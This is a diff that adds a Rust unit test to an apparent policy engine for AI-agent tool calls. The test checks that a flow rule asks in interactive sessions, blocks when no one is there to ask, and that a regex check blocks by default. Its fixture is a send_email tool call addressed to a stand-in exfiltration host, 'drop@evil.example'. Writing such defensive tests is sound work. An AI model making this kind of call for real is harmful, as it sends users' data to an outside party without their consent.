@@ -47,6 +47,34 @@ fn send(engine: &Engine, session: &str) -> DecisionKind {
 }
 
 #[test]
+fn a_flow_rule_without_on_fail_asks() {
+    let engine = Engine::from_yaml_str(POLICY).unwrap();
+    inject(&engine, "s");
+    let mut call = request(json!({
+        "sessionId": "s", "options": {"interactive": true},
+        "tool": {"name": "send_email", "arguments": {"to": "drop@evil.example"}}
+    }));
+    let d = engine.evaluate(&call).unwrap();
+    assert_eq!(d.decision, DecisionKind::Ask, "{d:?}");
+    // Nobody to ask: blocked.
+    call.options = None;
+    assert_eq!(
+        engine.evaluate(&call).unwrap().decision,
+        DecisionKind::Block
+    );
+    // Other types still block by default.
+    let other = Engine::from_yaml_str(
+        "checks:\n  - { id: r, stage: tool_use, type: regex, patterns: [drop] }\n",
+    )
+    .unwrap();
+    let call = request(json!({
+        "options": {"interactive": true},
+        "tool": {"name": "send_email", "arguments": {"to": "drop@evil.example"}}
+    }));
+    assert_eq!(other.evaluate(&call).unwrap().decision, DecisionKind::Block);
+}
+
+#[test]
 fn sessions_expire_after_their_ttl() {
     let clock = Arc::new(Manual::default());
     let sessions = Arc::new(Sessions::new(SessionLimits {
